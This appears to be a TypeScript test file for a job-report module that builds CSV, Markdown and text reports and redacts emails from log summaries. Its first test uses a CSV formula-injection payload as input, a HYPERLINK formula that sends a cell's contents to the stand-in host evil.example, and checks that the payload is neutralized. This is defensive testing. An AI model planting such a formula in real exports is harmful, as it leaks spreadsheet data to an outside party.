import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Outcome } from '../../src/core/jobs/bulkTask';
import {
  KEPT,
  neutralizeCell,
  reportCsv,
  reportDocument,
  reportMarkdown,
  reportOf,
  reportSummaryLines,
} from '../../src/core/jobs/report';
import { previousOwnerNote } from '../../src/providers/confident/members';

describe('job reports', () => {
  it('never writes a live formula into the CSV (a team named =HYPERLINK(…) went in as one)', () => {
    const evil = '=HYPERLINK("https://evil.example/?d="&A3,"Open")';
    const outcomes: Outcome<string>[] = [
      { item: evil, status: 'done' },
      { item: '+1 555', status: 'failed', reason: '-minus' },
      { item: '@SUM(A1)', status: 'skipped', reason: '\tTabbed' },
      { item: '\rCR', status: 'unknown', reason: 'plain' },
      { item: 'ada@example.com', status: 'done', note: 'a-ok' },
    ];
    const rows: string[][] = parse(reportCsv(reportOf('T', outcomes, (s) => s)));
    assert.deepEqual(
      rows.slice(1).map((r) => r[0]),
      [`'${evil}`, "'+1 555", "'@SUM(A1)", "'\rCR", 'ada@example.com'],
    );
    assert.deepEqual(
      rows.slice(1).map((r) => r[2]),
      ['', "'-minus", "'\tTabbed", 'plain', 'a-ok'],
    );
    assert.ok(rows.slice(1).every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))));
    assert.equal(neutralizeCell('safe = text'), 'safe = text');
  });

  it('keeps counts and failure reasons for the log, without the people they concern', () => {
    const outcomes: Outcome<string>[] = [
      { item: 'a@example.com', status: 'done' },
      { item: 'b@example.com', status: 'failed', reason: 'ElevenLabs: b@example.com is not in this workspace.' },
      { item: 'c@example.com', status: 'failed', reason: 'ElevenLabs: c@example.com is not in this workspace.' },
    ];
    const lines = reportSummaryLines('Share', outcomes);
    assert.deepEqual(lines, [
      'Share: 1 done, 2 failed, 0 skipped, 0 unknown',
      'Share: 2 × failed: ElevenLabs: <email> is not in this workspace.',
    ]);
  });

  it('a report document opens with its header: title, who, connections, when, counts per outcome; then the items', () => {
    const base = reportOf(
      'Offboard ada@example.com',
      [
        { item: 'Docs: Remove ada@example.com', status: 'done' },
        { item: 'Voices: Lock ada@example.com', status: 'failed', reason: 'refused' },
      ] as Outcome<string>[],
      (s) => s,
    );
    const report = {
      ...base,
      rows: [...base.rows, ['Voices: Remove access to "Intro"', KEPT, 'unticked in the preview'] as const],
      subject: 'ada@example.com',
      finished: '2026-01-02T03:04:05.000Z',
      connections: ['Voices', 'Docs'],
    };
    assert.equal(
      reportDocument(report),
      [
        'Offboard ada@example.com',
        'Who: ada@example.com',
        'Connections: Voices, Docs',
        'Finished: 2026-01-02T03:04:05.000Z',
        '3 items: 1 done, 1 failed, 0 skipped, 0 unknown, 1 kept',
        '',
        '✓ Docs: Remove ada@example.com',
        '✗ Voices: Lock ada@example.com: refused',
        '○ Voices: Remove access to "Intro": unticked in the preview',
        '',
      ].join('\n'),
    );
    assert.match(reportMarkdown(report), /\| Voices: Remove access to "Intro" \| ○ kept \| unticked in the preview \|/);
    const rows: string[][] = parse(reportCsv(report));
    assert.deepEqual(rows[3], [
      'ada@example.com',
      '2026-01-02T03:04:05.000Z',
      'Voices: Remove access to "Intro"',
      'kept',
      'unticked in the preview',
    ]);
  });

  it('after Owner is given, the note says what the previous Owner is now, or what the platform makes them', () => {
    const ada = { id: 'a', email: 'ada@example.com', name: 'Ada', owner: true, roleLabel: 'Owner' };
    const bob = { id: 'b', email: 'bob@example.com', name: 'Bob', roleLabel: 'Admin' };
    const after = [
      { ...ada, owner: false, roleLabel: 'Admin' },
      { ...bob, owner: true, roleLabel: 'Owner' },
    ];
    assert.equal(previousOwnerNote([ada, bob], after, 'b', 'Admin'), 'The previous Owner, Ada, is now Admin.');
    assert.equal(previousOwnerNote([ada, bob], undefined, 'b', 'Admin'), 'The previous Owner, Ada, becomes Admin.');
    assert.equal(
      previousOwnerNote([ada, bob], [after[1]], 'b', 'Admin'),
      'The previous Owner, Ada, is no longer listed.',
    );
    assert.equal(previousOwnerNote([bob], after, 'b', 'Admin'), undefined, 'no previous Owner: no note');
  });
});
